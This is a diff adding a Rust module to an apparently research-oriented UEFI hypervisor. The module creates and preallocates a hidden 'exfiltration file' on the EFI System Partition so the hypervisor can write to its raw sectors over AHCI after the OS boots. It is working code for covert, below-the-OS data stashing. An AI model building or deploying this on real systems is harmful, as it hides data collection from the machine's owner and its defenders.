@@ -0,0 +1,107 @@
+//! Provides the setup of the exfiltration file on the EFI System Partition (ESP) at boot.
+//!
+//! The file is created in the root directory of the partition the hypervisor has been loaded from, and filled with
+//! zeros so all of its clusters are allocated by the firmware's file system driver. Its sectors are then resolved
+//! (see the `esp` module), so the hypervisor can write to them after `ExitBootServices` through the AHCI port of the
+//! disk.
+
+use {
+    crate::esp::resolve_esp_file,
+    hypervisor::{
+        ahci::SECTOR_SIZE,
+        exfil::{ExfilFile, EXFIL_MAGIC},
+    },
+    log::*,
+    uefi::{
+        cstr16,
+        prelude::*,
+        proto::media::file::{File, FileAttribute, FileInfo, FileMode},
+        CStr16,
+    },
+};
+
+/// The name of the exfiltration file in the root directory of the ESP.
+const EXFIL_FILE_NAME: &CStr16 = cstr16!("ILLUSION.BIN");
+
+/// The 8.3 short name of the exfiltration file, as stored in its directory entry.
+const EXFIL_FILE_SHORT_NAME: &[u8; 11] = b"ILLUSIONBIN";
+
+/// The size of the exfiltration file in bytes, including the header sector (1MB).
+const EXFIL_FILE_SIZE: u64 = 0x10_0000;
+
+/// Creates the exfiltration file on the ESP, resolves the disk sectors backing it and hands it to the hypervisor.
+///
+/// This must be called before `ExitBootServices`.
+///
+/// # Arguments
+///
+/// * `boot_services` - A reference to the UEFI boot services table.
+///
+/// # Returns
+///
+/// Returns a `uefi::Result` indicating success or failure.
+pub fn setup_exfil_file(boot_services: &BootServices) -> uefi::Result<()> {
+    let (length, tail_sector) = create_exfil_file(boot_services)?;
+
+    let extents = resolve_esp_file(boot_services, EXFIL_FILE_SHORT_NAME, EXFIL_FILE_SIZE)?;
+    debug!("Exfiltration file extents: {:#x?}", extents);
+
+    ExfilFile::initialize_shared_exfil_file(extents, length, tail_sector);
+
+    Ok(())
+}
+
+/// Creates the exfiltration file, or opens it if it already exists so new data is appended after the existing data.
+///
+/// # Arguments
+///
+/// * `boot_services` - A reference to the UEFI boot services table.
+///
+/// # Returns
+///
+/// The number of bytes already appended to the file, and the contents of the sector holding the end of the data.
+fn create_exfil_file(boot_services: &BootServices) -> uefi::Result<(u64, [u8; SECTOR_SIZE])> {
+    let mut file_system = boot_services.get_image_file_system(boot_services.image_handle())?;
+    let mut root = file_system.open_volume()?;
+    let mut file = root
+        .open(EXFIL_FILE_NAME, FileMode::CreateReadWrite, FileAttribute::empty())?
+        .into_regular_file()
+        .ok_or(Status::UNSUPPORTED)?;
+
+    let mut header = [0u8; SECTOR_SIZE];
+    let mut tail_sector = [0u8; SECTOR_SIZE];
+
+    if file.get_boxed_info::<FileInfo>()?.file_size() == EXFIL_FILE_SIZE {
+        file.read(&mut header)?;
+    }
+
+    if header[..8] == EXFIL_MAGIC {
+        let capacity = EXFIL_FILE_SIZE - SECTOR_SIZE as u64;
+        let length = u64::from_le_bytes(header[8..16].try_into().unwrap()).min(capacity);
+
+        if length % SECTOR_SIZE as u64 != 0 {
+            file.set_position(SECTOR_SIZE as u64 + length / SECTOR_SIZE as u64 * SECTOR_SIZE as u64)?;
+            file.read(&mut tail_sector)?;
+        }
+
+        debug!("Opened existing exfiltration file with {:#x} bytes", length);
+        return Ok((length, tail_sector));
+    }
+
+    // Write the whole file so all of its clusters are allocated, starting with an empty header.
+    debug!("Creating exfiltration file of {:#x} bytes", EXFIL_FILE_SIZE);
+    header.fill(0);
+    header[..8].copy_from_slice(&EXFIL_MAGIC);
+
+    file.set_position(0)?;
+    file.write(&header).map_err(|e| e.status())?;
+
+    let zeros = [0u8; SECTOR_SIZE];
+    for _ in 1..EXFIL_FILE_SIZE / SECTOR_SIZE as u64 {
+        file.write(&zeros).map_err(|e| e.status())?;
+    }
+
+    file.flush()?;
+
+    Ok((0, tail_sector))
+}